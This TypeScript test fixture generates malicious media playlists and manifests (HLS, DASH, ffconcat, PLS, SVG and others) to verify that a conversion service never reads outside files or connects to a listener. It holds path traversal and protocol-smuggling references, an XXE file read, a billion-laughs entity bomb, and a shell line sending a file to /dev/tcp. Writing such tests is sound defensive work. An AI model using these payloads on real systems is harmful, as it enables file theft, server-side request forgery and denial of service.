/** The targets of the references. No conversion may read or connect to them. */
export interface ReferenceTargets {
  /** The absolute path of a movie outside of the media root. */
  readonly movie: string;
  /** The absolute path of a text outside of the media root. */
  readonly text: string;
  /** The file name of a movie in the same folder as the mutant. */
  readonly sibling: string;
  /** `host:port` of a listener on this machine. */
  readonly listener: string;
}

const hls = (...lines: readonly string[]): string =>
  ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:3', ...lines, '#EXT-X-ENDLIST', ''].join('\n');
const segment = (address: string): string => hls('#EXTINF:3,', address);
const master = (address: string): string => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000,RESOLUTION=160x90\n${address}\n`;
const concat = (...lines: readonly string[]): string => ['ffconcat version 1.0', ...lines, ''].join('\n');
const dash = (inside: string): string =>
  '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S">' +
  `<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000">${inside}` +
  '</Representation></AdaptationSet></Period></MPD>';

/** The ways to write a reference. */
const addresses = ({ movie, sibling, listener }: ReferenceTargets): readonly (readonly [string, string])[] => [
  ['an absolute path', movie],
  ['a file URL', `file://${movie}`],
  ['a sibling', sibling],
  ['a relative path that leaves the media root', `../../../../../../../..${movie}`],
  ['an HTTP URL', `http://${listener}/a.ts`],
  ['a TCP URL', `tcp://${listener}`],
  ['concat:', `concat:${movie}|${sibling}`],
  ['subfile:', `subfile,,start,0,end,100000,,:${movie}`],
  ['cache:', `cache:http://${listener}/a.ts`],
  ['crypto:', `crypto+file:${movie}`],
  ['data:', 'data:text/plain;base64,AAAA'],
  ['async:', `async:file:${movie}`],
];

/** Texts that a demuxer may treat as a list of files to open. None is a valid input. */
export function referenceFiles(targets: ReferenceTargets): readonly (readonly [description: string, text: string])[] {
  const { movie, text, sibling, listener } = targets;
  const port = listener.split(':')[1];
  return [
    ...addresses(targets).flatMap(([description, address]): readonly (readonly [string, string])[] => [
      [`HLS of ${description}`, segment(address)],
      [`HLS of a list at ${description}`, master(address)],
      [`HLS with its init segment at ${description}`, hls(`#EXT-X-MAP:URI="${address}"`, '#EXTINF:3,', sibling)],
      [`HLS with its key at ${description}`, hls(`#EXT-X-KEY:METHOD=AES-128,URI="${address}"`, '#EXTINF:3,', sibling)],
      [`DASH of ${description}`, dash(`<BaseURL>${address.replaceAll('&', '&amp;')}</BaseURL>`)],
      [`ffconcat of ${description}`, concat(`file '${address}'`)],
      [`ASX of ${description}`, `[Reference]\nRef1=${address}\n`],
      [`PLS of ${description}`, `[playlist]\nNumberOfEntries=1\nFile1=${address}\n`],
      [`lavfi of ${description}`, `movie=${address}`],
    ]),
    ['ffconcat with options', concat(`file '${sibling}'`, 'option safe 0', 'option protocol_whitelist file,tcp,http')],
    ['ffconcat of ffconcat', concat("file 'list.ffconcat'")],
    ['HLS of itself', segment('list.m3u8')],
    ['HLS with a range of bytes', hls('#EXTINF:3,', '#EXT-X-BYTERANGE:99999999999@0', movie)],
    ['HLS without an end', `#EXTM3U\n#EXT-X-TARGETDURATION:99999\n#EXTINF:99999,\n${sibling}\n`],
    ['HLS of ten thousand parts', hls(...Array.from({ length: 10_000 }, () => `#EXTINF:1,\n${sibling}`))],
    ['DASH with an entity', dash('&x;').replace('?>', `?><!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}">]>`)],
    [
      'DASH with nested entities (billion nestedEntities)',
      dash('&c;').replace('?>', `?><!DOCTYPE x [${nestedEntities()}]>`),
    ],
    ['SDP', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\n`],
    ['RTSP', `RTSPtextRTSP://${listener}/x\n`],
    ['VobSub', '# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n'],
    ['IMF', '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>'],
    ['SVG', `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${movie}" width="9" height="9"/></svg>`],
    ['a lavfi graph', 'color=red[out0];sine[out1]'],
    ['a shell script', `#!/bin/sh\ncat ${text} > /dev/tcp/${listener.replace(':', '/')}\n`],
    ['options', `-i ${text} -f rawvideo out.mkv\n`],
  ];
}

const nestedEntities = (): string =>
  `<!ENTITY a "${'ha'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">`;
